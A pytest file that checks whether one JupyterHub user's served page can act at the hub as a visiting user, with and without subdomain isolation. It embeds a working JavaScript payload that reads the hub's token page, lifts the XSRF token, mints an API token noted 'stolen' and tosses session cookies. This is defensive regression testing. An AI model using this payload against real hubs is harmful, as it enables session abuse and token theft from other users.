"""Pages that a user serves from a notebook server, in the browser of another user, with and without subdomains."""

import datetime
import ipaddress
import json
import shutil
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
import requests
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from conftest import HERE, PASSWORDS, config_folder, running_hub, values_of

# Opens pages in browsers.
pytestmark = pytest.mark.outside_gate

HOSTNAME = "hub.example.com"
SECRETS = {**PASSWORDS, "JPY_COOKIE_SECRET": "00" * 32}
# Not a DNS label, so JupyterHub encodes it.
ANN = "ann.lee@example.com"

# Reads the hub's page as the visitor, creates an API token with what it finds there, and sets cookies for the hub.
PAGE = """<!doctype html><script>
(async () => {
  const report = {};
  const hub = 'https://hub.example.com';
  const url = `${hub}/hub/api/users/ann.lee@example.com/tokens`;
  const options = { credentials: 'include' };
  try {
    const page = await (await fetch(`${hub}/hub/token`, options)).text();
    const xsrf = /xsrf_token: "([^"]*)"/.exec(page)?.[1];
    report.read = page.includes('ann.lee');
    const headers = { 'X-XSRFToken': xsrf, 'Content-Type': 'application/json' };
    report.token = (await fetch(url, { ...options, method: 'POST', headers, body: '{"note": "stolen"}' })).status;
  } catch (error) {
    report.error = error.name;
  }
  await fetch(url, { ...options, mode: 'no-cors', method: 'POST', body: '{"note": "stolen"}' }).catch(() => {});
  document.cookie = 'jupyterhub-hub-login=tossed; domain=hub.example.com; path=/hub/';
  document.cookie = '__Host-jupyterhub-hub-login=tossed; domain=hub.example.com; path=/; secure';
  document.title = JSON.stringify(report);
})();
</script>"""


class Attacker(BaseHTTPRequestHandler):
    """The server of a user who attacks visitors."""

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(PAGE.encode())

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture(scope="module")
def attacker() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), Attacker)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()


def certificate_in(folder: Path) -> tuple[Path, Path]:
    """A key and a wildcard certificate, as `subdomainHost` requires it."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, HOSTNAME)])
    names = [x509.DNSName(HOSTNAME), x509.DNSName(f"*.{HOSTNAME}"), x509.IPAddress(ipaddress.ip_address("127.0.0.1"))]
    now = datetime.datetime.now(datetime.UTC)
    builder = x509.CertificateBuilder(name, name, key.public_key(), x509.random_serial_number())
    signed = (
        builder.not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=1))
        .add_extension(x509.SubjectAlternativeName(names), critical=False)
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )
    key_file, certificate_file = folder / "tls.key", folder / "tls.crt"
    key_file.write_bytes(
        key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    )
    certificate_file.write_bytes(signed.public_bytes(serialization.Encoding.PEM))
    return key_file, certificate_file


@contextmanager
def https_hub(folder: Path, subdomains: bool) -> Iterator[str]:
    """A hub with TLS, whose users run the real server of a notebook image as local processes."""
    values = {**values_of("defaults"), "public_url": f"https://{HOSTNAME}", "culling": None}
    if subdomains:
        values["subdomain_host"] = f"https://{HOSTNAME}"
    values["authentication"] = {"kind": "shared-password", "admin_users": []}
    config_folder(folder, values)
    key, certificate = certificate_in(folder)
    proxy_args = [f"--ssl-key={key}", f"--ssl-cert={certificate}", *(["--host-routing"] if subdomains else [])]
    hub_args = [
        "--JupyterHub.spawner_class=simple",
        "--JupyterHub.cleanup_servers=True",
        f"--SimpleLocalProcessSpawner.home_dir_template={folder}/home",
        "--Spawner.cmd=['jupyterhub-singleuser', '--allow-root']",
        "--Spawner.default_url=/lab",
    ]
    with running_hub(folder, SECRETS, *hub_args, proxy_args=proxy_args, certificate=certificate) as url:
        yield url


def visit(hub: str, folder: Path, server: str, attack: str) -> Any:
    """What happens if ann opens the page of the attacker in Chromium."""
    chromium = shutil.which("chromium")
    if not chromium:
        pytest.skip("chromium is not installed")
    api = f"http://127.0.0.1:{json.loads((folder / 'ports.json').read_text())['proxy_api']}/api/routes"
    target = urlsplit(attack)
    path = f"/{target.hostname}/user/eve" if target.hostname != HOSTNAME else "/user/eve"
    headers = {"Authorization": "token token"}
    requests.post(f"{api}{path}", json={"target": server}, headers=headers, timeout=10).raise_for_status()
    step = {
        "executablePath": chromium,
        "port": urlsplit(hub).port,
        "name": ANN,
        "password": PASSWORDS["JUPYTERHUB_PASSWORD"],
        "attack": attack,
    }
    command = ["node", str(HERE / "open_attack.mjs"), json.dumps(step)]
    result = subprocess.run(command, capture_output=True, text=True, timeout=300, check=False)
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout)


def test_with_subdomains_a_page_of_a_user_cannot_act_at_the_hub_as_a_visitor(tmp_path: Path, attacker: str) -> None:
    folder = tmp_path / "hub"
    with https_hub(folder, subdomains=True) as hub:
        seen = visit(hub, folder, attacker, f"https://eve.{HOSTNAME}/user/eve/")
    assert seen["report"] == {"error": "TypeError"}
    assert seen["tokens"] == 0
    # Cookies for the hub that the page sets have no effect.
    assert seen["signedIn"] is True
    host = urlsplit(seen["server"]).hostname
    assert host.endswith(f".{HOSTNAME}")
    assert host.count(".") == HOSTNAME.count(".") + 1
    sessions = {cookie["name"]: cookie for cookie in seen["cookies"] if cookie["name"].startswith("__Host-")}
    assert sessions["__Host-jupyterhub-hub-login"]["domain"] == HOSTNAME
    assert {cookie["domain"] for name, cookie in sessions.items() if "user-ann" in name} == {host}


def test_without_subdomains_a_page_of_a_user_acts_at_the_hub_as_the_visitor(tmp_path: Path, attacker: str) -> None:
    """The risk that the documentation describes. If this fails, JupyterHub has changed."""
    folder = tmp_path / "hub"
    with https_hub(folder, subdomains=False) as hub:
        seen = visit(hub, folder, attacker, f"https://{HOSTNAME}/user/eve/")
    assert seen["report"] == {"read": True, "token": 201}
    assert seen["signedIn"] is False
